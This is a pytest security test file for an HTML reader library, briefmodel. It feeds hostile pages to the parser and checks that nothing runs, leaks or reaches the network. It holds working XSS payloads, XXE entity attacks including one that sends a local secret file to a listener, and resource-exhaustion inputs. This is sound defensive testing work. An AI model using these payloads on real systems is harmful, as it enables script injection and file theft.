HARNESS = (
    f'<script id="{HARNESS_ID}">'
    """
addEventListener('load', function () {
  var bad = [];
  var fine = ['http:', 'https:', 'mailto:'];
  var all = document.querySelectorAll('*');
  for (var i = 0; i < all.length; i++) {
    var el = all[i];
    var names = [];
    for (var j = 0; j < el.attributes.length; j++) names.push(el.attributes[j].name);
    for (var k = 0; k < names.length; k++) {
      var name = names[k].toLowerCase();
      var value = el.getAttribute(names[k]);
      if (name.slice(0, 2) === 'on') {
        try { el.dispatchEvent(new Event(name.slice(2))); } catch (e) {}
      }
      if (['href', 'src', 'action', 'formaction', 'data', 'poster', 'xlink:href',
           'background', 'srcdoc', 'cite'].indexOf(name) >= 0) {
        if (name === 'srcdoc') { bad.push('srcdoc'); continue; }
        if (value.charAt(0) === '#') continue;
        var protocol;
        try { protocol = new URL(value, document.baseURI).protocol; }
        catch (e) { continue; }  // not a URL the browser would follow
        if (fine.indexOf(protocol) < 0) bad.push(name + ': ' + value.slice(0, 120));
        if (protocol === 'javascript:' && el.click) { try { el.click(); } catch (e) {} }
      }
    }
  }
  document.documentElement.setAttribute('data-harness', JSON.stringify(bad));
});
</script>"""
)


def _run_browser(path: Path, content: str, *, harness: bool = True) -> etree._Element:
    path.write_text(
        content + (HARNESS if harness else ""), encoding="utf-8", errors="surrogatepass"
    )
    dom = _parse(dump_dom(path, budget_ms=3000))
    return dom


def _combined(group: str) -> str:
    """The pages of a group in one file: a full page's head parts (title, meta, the JSON-LD
    script, style) are read in the same tokenizer states in the body, so every page is
    tested as it is; fragments get the shell a host page would give them."""
    parts = []
    for page in GROUPS[group]:
        written = page.text
        if page.options.get("fragment"):
            written = (
                f"<!DOCTYPE html><html><head><title>f</title></head><body>{written}</body></html>"
            )
        parts.append(written)
    return "\n".join(parts)


@pytest.mark.parametrize("group", list(GROUPS))
def test_no_script_runs_and_no_handler_fires_in_chromium(group: str, tmp_path: Path) -> None:
    dom = _run_browser(tmp_path / f"{group}.html", _combined(group))
    assert dom.get("data-harness") is not None, "the harness did not run"
    ran = MARKERS.found(dom)
    assert not ran, "payloads ran:\n" + "\n".join(ran[:20])
    assert json.loads(dom.get("data-harness", "")) == []
    schemes = frozenset().union(*(p.schemes for p in GROUPS[group]))
    problems = policy_violations(dom, schemes, head_scripts=None, extra=HARNESS_ID)
    assert not problems, "\n".join(problems[:20])


def _controls() -> tuple[list[tuple[str, str, bool]], str]:
    """Payloads injected by hand into a written page: (what, markup, fires by itself).
    ``onmouseover`` and a ``javascript:`` link need a mouse or a click, which a headless
    browser never gives: they fire only with the harness."""
    payloads = []
    for what, template, alone in (
        ("script", "<script>{js}</script>", True),
        ("img onerror", '<img src="http://127.0.0.1:9/x.png" onerror="{js}">', True),
        ("autofocus onfocus", "<input autofocus onfocus={js}>", True),
        ("svg onload", "<svg onload={js}></svg>", True),
        ("iframe srcdoc", '<iframe srcdoc="<script>parent.{js}</script>"></iframe>', True),
        ("details ontoggle", "<details open ontoggle={js}></details>", True),
        ("onmouseover", "<span onmouseover={js}>m</span>", False),
        ("onclick", "<span onclick={js}>c</span>", False),
        ("javascript: link", "<a href=javascript:{js}>x</a>", False),
        ("spelled javascript: link", '<a href="\x01 Java&#x09;Script&colon;{js}">x</a>', False),
    ):
        js = MARKERS.js(f"control: {what}")
        payloads.append((what, _fill(template, js), alone))
    brief = bm.Brief(
        id="urn:example:control",
        headline="Control",
        created=CREATED,
        sections=[bm.Section(blocks=[bm.Paragraph(content="BODY")])],
    )
    page = bm.dumps(brief, "html")
    assert page.count("<p>BODY</p>") == 1
    injected = page.replace("<p>BODY</p>", "<p>" + "".join(p for _, p, _ in payloads) + "</p>")
    return payloads, injected


def test_the_detector_sees_scripts_that_run(tmp_path: Path) -> None:
    """The positive control: script injected by hand (not through the writer) is seen."""
    payloads, injected = _controls()
    assert policy_violations(_parse(injected), ALLOWED_SCHEMES, head_scripts=1)
    dom = _run_browser(tmp_path / "control.html", injected)
    ran = "\n".join(MARKERS.found(dom))
    assert [what for what, _, _ in payloads if f"control: {what}" not in ran] == []
    found = json.loads(dom.get("data-harness", ""))
    assert [f.split(":")[0] for f in found] == ["srcdoc", "href", "href"]
    assert [url_scheme(f.split(" ", 1)[1]) for f in found[1:]] == ["javascript"] * 2
    assert policy_violations(dom, ALLOWED_SCHEMES, head_scripts=None, extra=HARNESS_ID)
    alone = _run_browser(tmp_path / "alone.html", injected, harness=False)
    ran = "\n".join(MARKERS.found(alone))
    fired = {what for what, _, _ in payloads if f"control: {what}" in ran}
    assert fired == {what for what, _, by_itself in payloads if by_itself}


# ======================================================================================
# Reader: hostile HTML


MARK = "XSSMARK"  # in every dangerous part of an attack: never in a brief read from it
URLMARK = "URLMARK"  # in a dangerous URL: read as it is, refused by validation
DOORS = ("parse", "read", "loads", "validate")

Data = str | bytes


@dataclass(frozen=True)
class Env:
    secret: str
    secret_file: Path
    port: int

    @property
    def secret_uri(self) -> str:
        return self.secret_file.as_uri()

    @property
    def http(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory, listener: socket.socket) -> Env:
    folder = tmp_path_factory.mktemp("hostile-html")
    secret = f"BRIEFMODEL-SECRET-{uuid.uuid4().hex}"
    secret_file = folder / "secret.txt"
    secret_file.write_text(secret, encoding="utf-8")
    return Env(secret, secret_file, listener.getsockname()[1])


def page(body: str = "", head: str = "", *, doctype: str = "<!DOCTYPE html>") -> str:
    """An ordinary article page (readable: a headline and a date) with an attack in it."""
    return (
        f'{doctype}<html lang="en"><head><meta charset="utf-8"><title>Title</title>'
        '<meta property="article:published_time" content="2026-05-04T08:00:00Z">'
        f"{head}</head><body><article><h1>Headline</h1><p>Before.</p>{body}"
        "<p>After.</p></article></body></html>"
    )


_OWN = bm.dumps(
    bm.Brief(
        id="urn:example:hostile",
        headline="Headline",
        created=CREATED,
        sections=[bm.Section(blocks=[bm.Paragraph(content="BODY")])],
        entities=[bm.Entity(id="e1", kind="person", name="ENTITY")],
    ),
    "html",
    css=None,
)


def own(
    *,
    body: str | None = None,
    article: str | None = None,
    header: str | None = None,
    entity: str | None = None,
) -> str:
    """briefmodel's own page with an attack planted: ``body`` replaces the paragraph,
    ``article`` is added to the article's attributes, ``header`` replaces the header and
    ``entity`` the entity's list item."""
    text = _OWN
    if body is not None:
        text = _replace_once(text, "<p>BODY</p>", body)
    if article is not None:
        text = _replace_once(text, '<article class="brief"', f'<article class="brief" {article}')
    if header is not None:
        text = re.sub(r"<header>.*?</header>", lambda _: header, text, count=1, flags=re.S)
    if entity is not None:
        text = re.sub(r'<li id="entity-e1".*?</li>', lambda _: entity, text, count=1, flags=re.S)
    return text


def _replace_once(text: str, old: str, new: str) -> str:
    assert text.count(old) == 1, old
    return text.replace(old, new)


def _nested(open_: str, close: str, depth: int, inner: str = "deep") -> str:
    return open_ * depth + inner + close * depth


DEEP = 100_000
TOO_LARGE = frozenset({"parse.too-large"})
SYNTAX = frozenset({"parse.syntax"})
ENCODING = frozenset({"parse.encoding"})


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable[[Env], Data]
    #: The parse.* codes one of which the outcome must be (a ParseError); empty: any
    #: outcome but another exception.
    codes: frozenset[str] = frozenset()
    #: The ordinary read must give a brief (the dangerous parts dropped, not the page).
    readable: bool = False
    #: A known hole: the doors where it shows are xfail (strict) with this reason.
    bug: str | None = None
    bug_doors: tuple[str, ...] = ("read", "loads", "validate")
    #: The doors the attack goes through.
    doors: tuple[str, ...] = DOORS


def _deep_json(depth: int = DEEP) -> str:
    return "[" * depth + "]" * depth


ATTACKS: tuple[Attack, ...] = (
    # -- size and depth ------------------------------------------------------------------
    Attack("200 MB of text", lambda e: page("<p>" + "a" * (200 * 2**20) + "</p>"), TOO_LARGE),
    Attack(
        "200 MB as bytes", lambda e: page("<p>" + "a" * (200 * 2**20) + "</p>").encode(), TOO_LARGE
    ),
    Attack(
        "just over 64 MiB in UTF-8, under it in characters",
        lambda e: page("<p>" + "\U0001f600" * (17 * 2**20) + "</p>"),
        TOO_LARGE,
    ),
    Attack("nested divs", lambda e: page(_nested("<div>", "</div>", DEEP))),
    Attack("nested sections", lambda e: page(_nested("<section>", "</section>", DEEP))),
    Attack("nested emphasis", lambda e: page("<p>" + _nested("<em>", "</em>", DEEP) + "</p>")),
    Attack("nested spans", lambda e: page("<p>" + _nested("<span>", "</span>", DEEP) + "</p>")),
    Attack("nested lists", lambda e: page(_nested("<ul><li>", "</li></ul>", DEEP))),
    Attack("nested quotes", lambda e: page(_nested("<blockquote>", "</blockquote>", DEEP))),
    Attack("nested tables", lambda e: page(_nested("<table><tr><td>", "</td></tr></table>", DEEP))),
    Attack(
        "nested links",
        lambda e: page("<p>" + _nested('<a href="https://e.org/">', "</a>", DEEP) + "</p>"),
    ),
    Attack("unclosed nesting", lambda e: page("<div><p><em><strong>" * 25_000)),
    Attack(
        "own sections nested",
        lambda e: own(body=_nested("<section>", "</section>", DEEP, "<p>x</p>")),
    ),
    Attack(
        "own list items nested",
        lambda e: own(body=_nested('<ul><li><span class="item">a</span>', "</li></ul>", DEEP)),
    ),
    Attack(
        "own mentions nested",
        lambda e: own(
            body="<p>"
            + _nested('<span class="mention" data-entity="e1">', "</span>", DEEP)
            + "</p>"
        ),
    ),
    Attack(
        "resource limit hit silently (depth)",
        lambda e: page(_nested("<div>", "</div>", 300, "<p>deep</p>")),
        readable=True,
    ),
    # -- encodings and odd bytes --------------------------------------------------------
    Attack(
        "invalid UTF-8", lambda e: page("<p>x</p>").encode() + b"\xff\xfe<p>\xc3(</p>", ENCODING
    ),
    Attack(
        "overlong UTF-8",
        lambda e: page("<p>x</p>").encode().replace(b"x", b"\xc0\xbcscript\xc0\xbe"),
        ENCODING,
    ),
    Attack(
        "UTF-8 surrogate",
        lambda e: page("<p>x</p>").encode().replace(b"x", b"\xed\xa0\x80"),
        ENCODING,
    ),
    Attack("truncated UTF-8", lambda e: page("<p>x</p>").encode()[:-3] + b"\xe2\x82", ENCODING),
    Attack("lone surrogate in a str", lambda e: page("<p>\ud800</p>"), ENCODING),
    Attack("UTF-16", lambda e: page("<p>x</p>").encode("utf-16"), ENCODING),
    Attack(
        "UTF-7 declared",
        lambda e: page("<p>+ADw-script+AD4-x+ADw-/script+AD4-</p>", head='<meta charset="utf-7">'),
        readable=True,
    ),
    # A NUL (a parser reads U+FFFD for it), as the text and Markdown readers refuse it.
    Attack("NUL bytes in text", lambda e: page("<p>a\x00b\x00</p><p>\x00</p>"), SYNTAX),
    Attack("NUL bytes first", lambda e: "\x00" * 16 + page("<p>x</p>")),
    Attack("NUL in a tag name", lambda e: page("<p>a<scr\x00ipt>text</scr\x00ipt>b</p>")),
    Attack(
        "NUL in a scheme",
        lambda e: page(f'<p><a href="java\x00script:{URLMARK}">x</a></p>'),
    ),
    Attack("only NUL bytes", lambda e: b"\x00" * 1000),
    Attack("empty", lambda e: b""),
    Attack("only white space", lambda e: " \n\t" * 1000),
    Attack("not HTML at all", lambda e: bytes(range(1, 128)) * 100),
    # -- markup left open, huge markup ---------------------------------------------------
    Attack(
        "unclosed tags",
        lambda e: (
            page()[: -len("</article></body></html>")]
            + "<p><em><a href='https://e.org/'>x<ul><li>y"
        ),
    ),
    Attack("unclosed script", lambda e: page(f"<script>{MARK}")),
    Attack("unclosed comment", lambda e: page(f"<!-- {MARK}")),
    Attack("unclosed title", lambda e: page(head="<title>text", body="<p>x</p>")),
    Attack("unclosed textarea", lambda e: page(f"<textarea>{MARK}")),
    Attack("unclosed attribute", lambda e: page('<p title="text>x</p>')),
    Attack("huge attribute", lambda e: page("<p title='" + "x" * (20 * 2**20) + "'>x</p>")),
    Attack(
        "huge href",
        lambda e: page("<p><a href='https://e.org/" + "x" * (20 * 2**20) + "'>x</a></p>"),
    ),
    Attack(
        "many attributes",
        # libxml2 compares each attribute with all the element's others (60 000 took
        # seconds): refused by a linear scan before parsing
        lambda e: page("<p " + " ".join(f"a{i}=x" for i in range(60_000)) + ">x</p>"),
        TOO_LARGE,
    ),
    Attack(
        "many attributes, with quoted brackets",
        lambda e: page("<p " + " ".join(f'a{i}="<>"' for i in range(60_000)) + ">x</p>"),
        TOO_LARGE,
    ),
    Attack(
        "many attributes after a script that looks like a quote",
        lambda e: page(
            "<script>var s = '<p title=\"';</script>"
            + "<p "
            + " ".join(f"a{i}=x" for i in range(60_000))
            + ' b="">x</p>'
        ),
        TOO_LARGE,
    ),
    Attack(
        "many repeated attributes",
        lambda e: page("<p " + " ".join("a=x" for _ in range(200_000)) + ">x</p>"),
    ),
    Attack("huge tag name", lambda e: page("<p" + "x" * (10 * 2**20) + ">x</p>")),
    Attack("huge text node", lambda e: page("<p>" + "x " * (15 * 2**20) + "</p>")),
    Attack(
        "resource limit hit silently (text)",
        lambda e: page("<p>" + "x" * (11 * 2**20) + "</p>"),
        readable=True,
    ),
    Attack("entity-heavy text", lambda e: page("<p>" + "&amp;" * 10**6 + "</p>"), readable=True),
    Attack(
        "numeric references",
        lambda e: page("<p>" + "&#x26;&#60;" * 500_000 + "</p>"),
        readable=True,
    ),
    Attack(
        "escaped markup", lambda e: page("<p>" + "&lt;script&gt;" * 100_000 + "</p>"), readable=True
    ),
    Attack("unknown entities", lambda e: page("<p>" + "&xxe;" * 10**6 + "</p>"), readable=True),
    Attack("many paragraphs", lambda e: page("<p>x</p>" * 100_000)),
    # -- DTDs, entities, files and the network -------------------------------------------
    Attack(
        "internal subset",
        lambda e: page(
            "<p>&lol9; &xxe; &secret;</p>",
            doctype='<!DOCTYPE html [<!ENTITY lol "lol">'
            + "".join(
                f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";" if i > 1 else "&lol;") * 10}">'
                for i in range(1, 10)
            )
            + f'<!ENTITY xxe SYSTEM "{e.secret_uri}"><!ENTITY secret "{MARK}">]>',
        ),
        readable=True,
    ),
    Attack(
        "external DTD",
        lambda e: page("<p>&xxe;</p>", doctype=f'<!DOCTYPE html SYSTEM "{e.secret_uri}">'),
        readable=True,
    ),
    Attack(
        "external DTD over the network",
        lambda e: page(
            "<p>&xxe;</p>", doctype=f'<!DOCTYPE html PUBLIC "-//X//Y" "{e.http}/x.dtd">'
        ),
        readable=True,
    ),
    Attack(
        "parameter entities",
        lambda e: page(
            "<p>&send;</p>",
            doctype=f'<!DOCTYPE html [<!ENTITY % file SYSTEM "{e.secret_uri}">'
            f"<!ENTITY % all \"<!ENTITY send SYSTEM '{e.http}/?%file;'>\">%all;]>",
        ),
        readable=True,
    ),
    Attack(
        "XInclude",
        lambda e: page(
            f'<p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{e.secret_uri}" '
            'parse="text"/></p>'
        ),
        readable=True,
    ),
    Attack(
        "things that load",
        lambda e: page(
            f'<p><img src="{e.http}/i.png" alt="An image"></p>'
            f'<iframe src="{e.secret_uri}"></iframe><object data="{e.secret_uri}"></object>'
            f'<embed src="{e.http}/e"><script src="{e.http}/s.js"></script>',
            head=f'<link rel="stylesheet" href="{e.http}/s.css">'
            f'<?xml-stylesheet href="{e.secret_uri}"?>'
            f'<style>@import "{e.secret_uri}";</style>',
        ),
        readable=True,
    ),
    # -- active content in an ordinary page ----------------------------------------------
    Attack(
        "base href",
        lambda e: page(
            "<p><a href='https://e.org/x'>abs</a></p>", head=f'<base href="javascript:{MARK}//">'
        ),
        readable=True,
    ),
    Attack(
        "base href and relative links",
        lambda e: page("<p><a href='x'>rel</a></p>", head=f'<base href="javascript:{MARK}//x/">'),
    ),
    Attack(
        "meta refresh",
        lambda e: page(
            "<p>x</p>",
            head=f'<meta http-equiv="refresh" content="0;url=javascript:{MARK}">'
            f'<meta http-equiv="refresh" content="0;url=data:text/html,{MARK}">',
        ),
        readable=True,
    ),
    Attack(
        "forms",
        lambda e: page(
            f'<form action="javascript:{MARK}"><input name="q" value="{MARK}">'
            f"<textarea>{MARK}</textarea><select><option>{MARK}</option></select>"
            f'<button formaction="javascript:{MARK}">{MARK}</button></form>'
            f'<p>a<input value="{MARK}">b</p>'
        ),
        readable=True,
    ),
    Attack(
        "iframes",
        lambda e: page(
            f'<iframe src="javascript:{MARK}" srcdoc="<script>{MARK}</script>">{MARK}</iframe>'
            f'<p>a<iframe srcdoc="{MARK}">{MARK}</iframe>b</p>'
        ),
        readable=True,
    ),
    Attack(
        "scripts",
        lambda e: page(
            f"<script>{MARK}</script><p>a<script>{MARK}</script>b</p>"
            f"<ul><li>x<script>{MARK}</script></li></ul>"
            f'<script type="application/ld+json">{{"headline": "{MARK}"}}</script>',
            head=f"<script>{MARK}</script>",
        ),
        readable=True,
    ),
    Attack(
        "scripts in headings",
        lambda e: page(
            f"<h2>Title<script>{MARK}</script><style>{MARK}</style></h2><p>x</p>"
        ).replace("<h1>Headline", f"<h1>Headline<script>{MARK}</script>"),
        readable=True,
    ),
    Attack(
        "styles and templates",
        lambda e: page(
            f"<style>{MARK}</style><p>a<style>{MARK}</style>b</p><noscript>{MARK}</noscript>"
            f"<template><p>{MARK}</p></template><p>c<noscript>{MARK}</noscript></p>"
        ),
        readable=True,
    ),
    Attack(
        "svg and math",
        lambda e: page(
            f"<svg><script>{MARK}</script><text>text</text></svg>"
            f'<p>a<svg onload="{MARK}"><a href="javascript:{MARK}">x</a></svg>b'
            f'<math><mi xlink:href="javascript:{MARK}">text</mi></math></p>'
        ),
        readable=True,
    ),
    Attack(
        "event handlers",
        lambda e: page(
            f'<p onclick="{MARK}" onmouseover="{MARK}">a <em onfocus="{MARK}">b</em></p>'
            f'<figure><img src="https://e.org/i.png" alt="An image" onerror="{MARK}"></figure>'
            f'<blockquote onload="{MARK}"><p>q</p></blockquote>',
            head="",
        ).replace("<h1>", f'<h1 onclick="{MARK}">'),
        readable=True,
    ),
    Attack(
        "style attributes",
        lambda e: page(
            f'<p style="background:url(javascript:{MARK})">a<span style="x:expression({MARK})">b'
            "</span></p>"
        ),
        readable=True,
    ),
    Attack(
        "javascript links",
        lambda e: page(
            f'<p><a href="javascript:{URLMARK}">a</a> <a href=" JaVa&#x09;ScRiPt:{URLMARK}">b</a> '
            f'<a href="java&NewLine;script:{URLMARK}">c</a></p>'
            f'<figure><img src="javascript:{URLMARK}" alt="i"></figure>'
            f'<p><img src="data:image/svg+xml,{URLMARK}" alt="j"></p>'
        ),
    ),
    Attack(
        "mutation XSS",
        lambda e: page(
            f'<noscript><p title="</noscript><img src=x onerror={MARK}>"></noscript>'
            f"<p>x<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></mglyph>"
            "</table></mtext></math></p>"
        ),
    ),
    Attack(
        "conditional comments and CDATA",
        lambda e: page(
            f"<!--[if IE]><script>{MARK}</script><![endif]--><p>a<![CDATA[text]]>b</p>"
            "<?php text ?><p>c</p>"
        ),
        readable=True,
    ),
    Attack(
        "navigation and chrome",
        lambda e: page(
            "<nav><a href='https://e.org/'>n</a></nav><header>h</header><footer>f</footer>"
            "<aside>a</aside><dialog open>d</dialog><canvas>c</canvas><menu>m</menu>"
            f"<button>{MARK}</button>"
        ),
        readable=True,
    ),
    Attack(
        "canonical link with a script scheme",
        lambda e: page(head=f'<link rel="canonical" href="javascript:{URLMARK}">', body="<p>x</p>"),
    ),
    # -- briefmodel's own page -----------------------------------------------------------
    Attack(
        "own page with scripts",
        lambda e: own(
            body=f"<p>a<script>{MARK}</script>b</p><script>{MARK}</script>"
            f'<iframe srcdoc="{MARK}"></iframe><form><input value="{MARK}"></form>'
        ).replace("</article>", f"<script>{MARK}</script></article>"),
        readable=True,
    ),
    Attack(
        "own page: a script in the headline and a title",
        lambda e: own(body=f"<h2>Title<script>{MARK}</script></h2><p>x</p>").replace(
            "<h1>Headline", f"<h1>Headline<script>{MARK}</script>"
        ),
    ),
    Attack(
        "own page with javascript links",
        lambda e: own(
            body=f'<p><a href="javascript:{URLMARK}">x</a><span class="link" '
            f'data-href="javascript:{URLMARK}">y</span></p><figure class="figure" '
            f'data-src="javascript:{URLMARK}"><p class="missing-image" data-alt="A">A</p></figure>'
        ),
    ),
    Attack(
        "own page: deep JSON in data-extensions",
        lambda e: own(article=f"data-extensions='{_deep_json()}'"),
    ),
    Attack(
        "own page: JSON in data-extensions that decodes but nests too deeply for the model",
        lambda e: own(article=f"data-extensions='{{\"x:a\": {_deep_json(900)}}}'"),
    ),
    Attack(
        "own page: deep JSON in data-keywords",
        lambda e: own(article=f"data-keywords='{_deep_json()}'"),
    ),
    Attack(
        "own page: deep JSON in data-aliases",
        lambda e: own(
            entity=f'<li data-entity-id="e1" data-kind="person" data-aliases=\'{_deep_json()}\'>'
            '<span class="name">N</span></li>'
        ),
    ),
    Attack(
        "own page: deep JSON in data-identifiers",
        lambda e: own(
            entity='<li data-entity-id="e1" data-kind="person" '
            f"data-identifiers='{_deep_json()}'>"
            '<span class="name">N</span></li>'
        ),
    ),
    Attack(
        "own page: an entity without a name",
        lambda e: own(entity='<li data-entity-id="e1" data-kind="person"></li>'),
    ),
    Attack(
        "own page: no header",
        lambda e: own(header=""),
    ),
    Attack(
        "own page: odd data values",
        lambda e: own(
            article='data-version="9' + "9" * 10_000 + '" data-urgency="\u0661" '
            'data-extensions=\'{"x:a": 1e999, "x:b": NaN}\' data-keywords=\'{"a": 1}\' '
            'data-status="<script>"',
        ),
    ),
    Attack(
        "own page: odd times",
        lambda e: own(
            header='<header><h1>H</h1><p class="dates">'
            '<time datetime="99999-01-01T00:00:00Z" data-field="created">t</time>'
            '<time datetime="2026-02-30T25:61:61+99:99" data-field="updated">t</time>'
            '<time datetime="0001-01-01T00:00:00+01:00" data-field="embargo-until">t</time>'
            "</p></header>"
        ),
    ),
    Attack(
        "own page: exact values and characters",
        lambda e: own(
            body='<p data-exact=\'{"data-exact": 1, "on&lt;x": "y", "href": "javascript:x"}\'>a'
            '<span class="char" data-char="FFFFFF"></span><span class="char" data-char="0">'
            '</span><span class="char" data-char="D800"></span><span class="char" '
            'data-char="ZZ"></span><span class="char" data-char="D"><em>x</em></span></p>'
            "<p data-exact='[1]'>c</p><p data-exact='{\"x\": {\"y\": 1}}'>d</p>"
        ),
    ),
    Attack(
        "own page: deep JSON in data-exact",
        lambda e: own(body=f"<p data-exact='{_deep_json()}'>b</p>"),
    ),
    Attack(
        "own page: a second brief inside",
        lambda e: own(body=_OWN.split("<main>")[1].split("</main>")[0] * 1000),
    ),
)


def _brief_strings(brief: bm.Brief) -> Iterator[str]:
    """Every string a brief holds, without recursion (a brief read can be deep)."""
    for _, node in brief.walk():
        if type(node) is str:
            yield node
        elif attrs.has(type(node)):
            stack: list[Any] = [getattr(node, f.name) for f in attrs.fields(type(node))]
            while stack:
                value = stack.pop()
                if isinstance(value, str):
                    yield value
                elif isinstance(value, tuple):
                    stack.extend(v for v in value if not attrs.has(type(v)))
                elif isinstance(value, FrozenMap):
                    stack.extend(value.keys())
                    stack.extend(value.values())


def _brief_urls(brief: bm.Brief) -> Iterator[str]:
    fields = {
        bm.Link: "href",
        bm.Figure: "src",
        bm.Source: "url",
        bm.Related: "url",
        bm.Rights: "license_url",
        bm.Agent: "uri",
        bm.Subject: "uri",
    }
    for _, node in brief.walk():
        name = fields.get(type(node))
        if name is not None and getattr(node, name) is not None:
            yield getattr(node, name)


@dataclass
class Outcome:
    value: Any = None
    error: BaseException | None = None
    warned: tuple[str, ...] = ()


def _door(door: str, data: Data) -> Any:
    if door == "parse":
        return html.parse(data)
    if door == "read":
        return html.read(data, strict=False)
    if door == "loads":
        return bm.loads(data, "html", strict=False)
    return bm.validate(data, "html")


def _call(door: str, data: Data) -> Outcome:
    """The outcome of one door on ``data``, with the warnings it gave; a hang fails."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        returned = guarded(lambda: _door(door, data), f"html {door}")
    if returned.error is not None and not isinstance(returned.error, Exception):
        raise returned.error  # pytest's own outcomes, KeyboardInterrupt
    return Outcome(returned.value, returned.error, tuple(str(w.message) for w in caught))


def _leaks(outcome: Outcome, secret: str) -> list[str]:
    texts: list[str] = list(outcome.warned)
    if outcome.error is not None:
        texts.append(str(outcome.error))
        texts.extend(p.message for p in getattr(outcome.error, "problems", ()) or ())
        problem = getattr(outcome.error, "problem", None)
        if problem is not None:
            texts.append(problem.message)
    value = outcome.value
    if isinstance(value, bm.Brief):
        texts.extend(_brief_strings(value))
    elif isinstance(value, etree._Element):
        texts.append(etree.tostring(value, encoding="unicode"))
    elif value is not None:
        texts.extend(p.message for p in value.problems)
        if value.brief is not None:
            texts.extend(_brief_strings(value.brief))
    return [t[:200] for t in texts if secret in t]


_PARAMS = [
    pytest.param(
        attack,
        door,
        id=f"{attack.name}-{door}",
        marks=(
            (pytest.mark.xfail(strict=True, reason=attack.bug),)
            if attack.bug and door in attack.bug_doors
            else ()
        ),
    )
    for attack in ATTACKS
    for door in attack.doors
]


@pytest.mark.parametrize(("attack", "door"), _PARAMS)
def test_hostile_html_is_read_safely(
    attack: Attack,
    door: str,
    env: Env,
    listener: socket.socket,
    network: list[tuple[Any, ...]],
) -> None:
    data = attack.build(env)
    outcome = _call(door, data)
    error, value = outcome.error, outcome.value
    del data
    # Only a BriefmodelError (validate: none), never another exception.
    if door == "validate":
        assert error is None, f"validate raised {error!r}"
        assert isinstance(value, bm.Report)
    elif error is not None:
        assert isinstance(error, bm.BriefmodelError), f"{type(error).__name__}: {error}"[:500]
        if door == "parse":
            assert isinstance(error, bm.ParseError)
    # The outcome the attack must have.
    if attack.codes:
        if door == "validate":
            assert not value.ok
            assert {p.code for p in value.problems if p.severity == "error"} & attack.codes
        else:
            assert isinstance(error, bm.ParseError), f"no ParseError, but {value!r}"[:300]
            assert error.problem.code in attack.codes
    elif attack.readable and door in ("read", "loads"):
        assert isinstance(value, bm.Brief), f"{error!r}"[:500]
    # Leak-free, offline.
    assert _leaks(outcome, env.secret) == []
    assert network == []
    assert _connections(listener) == []
    # What was read holds nothing dangerous, and is safe to write again.
    brief = value.brief if door == "validate" else value
    if isinstance(brief, bm.Brief):
        assert [s[:120] for s in _brief_strings(brief) if MARK in s] == []
        if door in ("loads", "validate") and (door == "loads" or value.ok):
            assert [u for u in _brief_urls(brief) if url_scheme(u) not in ALLOWED_SCHEMES] == []
            written = Page("read back", brief, {})
            check_page(written, written.text)


def _strict_read(data: Data) -> bm.Brief | None:
    try:
        return bm.loads(data, "html")
    except bm.BriefmodelError:
        return None


@pytest.mark.parametrize(
    "attack",
    [
        page(_nested("<div>", "</div>", 300, "<p>deep</p>")),
        page("<p>" + "x" * (11 * 2**20) + "</p>"),
        page("<p title='" + "x" * (11 * 2**20) + "'>x</p>"),
    ],
    ids=["depth", "text", "attribute"],
)
def test_a_document_cut_short_by_the_parser_is_not_read_as_whole(attack: str) -> None:
    """What the parser leaves out is an error (or read), never silently missing."""
    brief = _strict_read(attack)
    assert brief is None or "After." in "\n".join(_brief_strings(brief))
    # parse refuses it; a strict read reports the cut, with its line; a lenient read
    # gives what was read, with the cut among its losses.
    with pytest.raises(bm.ParseError) as refused:
        html.parse(attack)
    assert refused.value.problem.code in ("parse.too-deep", "parse.too-large")
    assert refused.value.problem.line == 1
    with pytest.raises(bm.ValidationError) as caught:
        html.read(attack)
    (cut,) = [p for p in caught.value.problems if "stopped reading" in p.message]
    assert (cut.severity, cut.code, cut.line) == ("error", "html.dropped", 1)
    with pytest.warns(bm.BriefmodelWarning, match="libxml2 stopped reading the document at line 1"):
        lenient = html.read(attack, strict=False)
    assert lenient.headline == "Headline"
    report = bm.validate(attack, "html")
    assert report.ok
    assert "stopped reading" in report.problems[0].message


def test_the_cut_is_reported_at_its_line() -> None:
    attack = page("\n\n" + _nested("<div>\n", "</div>", 300, "<p>deep</p>"))
    with pytest.raises(bm.ParseError) as refused:
        html.parse(attack)
    assert refused.value.problem.line == 256


def _attributes(count: int) -> str:
    return "<p " + " ".join(f"a{i}=x" for i in range(count)) + ">x</p>"


def test_an_element_with_too_many_attributes_is_refused_at_its_line() -> None:
    assert html.MAX_ATTRIBUTES == 256
    assert html.parse(page(_attributes(256))).find(".//p[@a255]") is not None
    for body in (
        _attributes(257),
        "\n\n" + _attributes(257).replace(" a200", "\na200"),
        '<p a="x"' + "".join(f'b{i}="y"' for i in range(257)) + ">x</p>",
        "<div/" + "/".join(f"b{i}" for i in range(257)) + "/>x</div>",
    ):
        with pytest.raises(bm.ParseError) as refused:
            html.parse(page(body))
        problem = refused.value.problem
        assert (problem.code, problem.line) == ("parse.too-large", 1 + body.count("\n", 0, 3))
        assert "more than 256 attributes" in problem.message


#: Pieces of HTML that move libxml2's tokenizer from state to state: tags, quotes inside
#: and outside attribute values, comments (and their odd ends), raw text elements, the
#: escapes of script data, self-closing raw text elements, non-HTML white space.
_PIECES = (
    "<", ">", "/", '"', "'", "=", " ", "\t", "\x0b", "\n", "-", "!", "?", "x", "script",
    "<!--", "-->", "--!>", "<!", "</", "<?x", "<!DOCTYPE html>",
    "<script>", "</script>", "<script", "</script", "<SCRIPT ", "<script/>",
    "<style>", "</style>", "<title>", "</title>", "<textarea/>", "<textarea>", "</textarea>",
    "<plaintext>", "<xmp>", "</xmp >", "<noscript>", "<iframe>", "</iframe>",
    "<p", "<i", "</i", "a=1", 'b="', "c='", " d ", "<p a b c>", '<i a=">" b c>',
    "<b a=\"<\" b='\"' c d=e>", "<p a='x'b c>",
)  # fmt: skip


@settings(max_examples=examples(2000), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(_PIECES), max_size=30))
def test_the_attribute_scan_sees_every_element_that_libxml2_makes(pieces: list[str]) -> None:
    """With a limit of 2, the scan refuses every document in which libxml2 makes an
    element with more than 2 attributes: it finds the tags where libxml2 does."""
